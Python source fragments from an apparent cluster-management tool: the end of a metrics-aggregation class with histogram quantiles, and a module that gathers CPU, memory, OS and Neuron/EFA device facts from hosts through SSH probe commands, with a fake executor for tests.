            for ser in series:
                if not ser["points"]:
                    continue
                ts, value = ser["points"][-1]
                if ts < since:
                    continue  # stale series: no fresh point in window
                vals.append(value)
        if not vals:
            return None
        if op == "latest":
            return vals[-1] if len(vals) == 1 else sum(vals) / len(vals)
        if op == "sum":
            return sum(vals)
        if op == "avg":
            return sum(vals) / len(vals)
        if op == "min":
            return min(vals)
        if op == "imbalance":
            mean = sum(vals) / len(vals)
            if mean <= 0:
                return None  # all-zero load: balance is undefined
            return round(max(vals) / mean, 6)
        return max(vals)

    def _quantile(self, metric: str, since: float, match: dict | None,
                  q: float):
        """Cross-replica histogram quantile: per-series window *delta*
        of the cumulative bucket counters, summed per ``le`` across all
        targets.  A series with no increase contributes nothing; if no
        series increased (idle window) fall back to absolute cumulative
        counts so "what has it looked like overall" still answers."""
        bucket_metric = metric + "_bucket"
        deltas: dict = {}
        absolutes: dict = {}
        with self._lock:
            for ser in self._matching(bucket_metric, None):
                labels = dict(ser["labels"])
                le = labels.pop("le", None)
                if le is None:
                    continue
                if match and any(labels.get(k) != v
                                 for k, v in match.items()):
                    continue
                pts = self._window_points(ser, since)
                if not pts:
                    continue
                absolutes[le] = absolutes.get(le, 0.0) + pts[-1][1]
                if len(pts) >= 2:
                    d = pts[-1][1] - pts[0][1]
                    if d > 0:
                        deltas[le] = deltas.get(le, 0.0) + d
        buckets = deltas or absolutes
        if not buckets:
            return None
        val = _quantile_from_buckets(buckets, q)
        return None if val is None else round(val, 6)
