"""Host facts gathering (SURVEY.md §2.4: hosts carry facts — cpu,
memory, neuron/efa device counts; the reference gathers them over SSH at
host registration).

A FactsGatherer runs probe commands through an executor seam:
  - SshExecutor: `ssh <ip>` subprocess (real deployments);
  - FakeFactsExecutor: canned outputs (tests, no SSH in the image).

Facts land on the host row and drive inventory group membership
(`neuron`/`efa` groups) and the scheduler extender's capacity view.
"""

import json
import re
import subprocess

PROBES = {
    "cpus": "nproc",
    "meminfo": "cat /proc/meminfo",
    "os": "cat /etc/os-release",
    "neuron_ls": "neuron-ls -j 2>/dev/null || true",
    "fi_info": "fi_info -p efa 2>/dev/null | grep -c provider || true",
}

_MARK = "KO_PROBE:"


def combined_probe_command() -> str:
    """All probes in ONE ssh round trip, delimited by marker lines —
    a slow host costs one handshake, not five."""
    parts = []
    for key, cmd in PROBES.items():
        parts.append(f"echo {_MARK}{key}; {{ {cmd} ; }} 2>/dev/null")
    return " ; ".join(parts)


def split_probe_output(text: str) -> dict:
    raw, current = {}, None
    for line in (text or "").splitlines():
        if line.startswith(_MARK):
            current = line[len(_MARK):].strip()
            raw[current] = []
        elif current is not None:
            raw[current].append(line)
    return {k: "\n".join(v) for k, v in raw.items()}


class SshExecutor:
    def __init__(self, timeout: float = 20.0):
        self.timeout = timeout

    def run(self, host: dict, cred: dict, command: str) -> str:
        port = str(host.get("port", 22))
        user = (cred or {}).get("username", "root")
        proc = subprocess.run(
            ["ssh", "-o", "StrictHostKeyChecking=no", "-o", "BatchMode=yes",
             "-p", port, f"{user}@{host['ip']}", command],
            capture_output=True, text=True, timeout=self.timeout,
        )
        if proc.returncode != 0:
            # 255 = ssh transport/auth failure — the common case; make
            # it loud instead of an empty-but-200 facts dict
            raise RuntimeError(
                f"ssh rc={proc.returncode}: {proc.stderr.strip()[:300]}"
            )
        return proc.stdout


class FakeFactsExecutor:
    """outputs: {probe_name: text} (keyed by PROBES key); composes the
    marker-delimited combined output the real executor would return.
    Set `fail=True` to simulate an unreachable host."""

    def __init__(self, outputs=None, fail=False):
        self.outputs = outputs or {}
        self.fail = fail
        self.calls = []

    def run(self, host, cred, command):
        self.calls.append((host.get("name"), command))
        if self.fail:
            raise RuntimeError("ssh rc=255: Connection refused")
        lines = []
        for key in PROBES:
            lines.append(f"{_MARK}{key}")
            lines.append(self.outputs.get(key, ""))
        return "\n".join(lines)


def parse_facts(raw: dict) -> dict:
    """Probe outputs -> facts dict."""
    facts = {}
    if raw.get("cpus", "").strip().isdigit():
        facts["cpus"] = int(raw["cpus"].strip())
    m = re.search(r"MemTotal:\s*(\d+)\s*kB", raw.get("meminfo", ""))
    if m:
        # /proc/meminfo kB is KiB; report GiB
        facts["memory_gb"] = round(int(m.group(1)) * 1024 / 2 ** 30, 1)
    m = re.search(r'PRETTY_NAME="([^"]+)"', raw.get("os", ""))
    if m:
        facts["os"] = m.group(1)
    nl = raw.get("neuron_ls", "").strip()
    if nl:
        try:
            devices = json.loads(nl)
            if isinstance(devices, list) and devices:
                facts["neuron_devices"] = len(devices)
                facts["neuron_cores"] = sum(
                    int(d.get("nc_count", 0)) for d in devices
                )
        except json.JSONDecodeError:
            pass
    fi = raw.get("fi_info", "").strip()
    if fi.isdigit() and int(fi) > 0:
        facts["efa_interfaces"] = int(fi)
    return facts


class FactsGatherer:
    def __init__(self, db, executor=None):
        self.db = db
        self.executor = executor or SshExecutor()

    def gather(self, host_id: str) -> dict:
        host = self.db.get("hosts", host_id)
        if host is None:
            raise KeyError(f"host {host_id} not found")
        cred = self.db.get("credentials", host.get("credential_id", "")) or {}
        host.setdefault("facts", {}).pop("gather_error", None)
        try:
            out = self.executor.run(host, cred, combined_probe_command())
            facts = parse_facts(split_probe_output(out))
            host["facts"].update(facts)
            host["status"] = "Running" if facts else host.get("status", "Pending")
        except Exception as exc:
            host["facts"]["gather_error"] = repr(exc)
            host["status"] = "Unreachable"
        self.db.put("hosts", host["id"], host)
        return host["facts"]
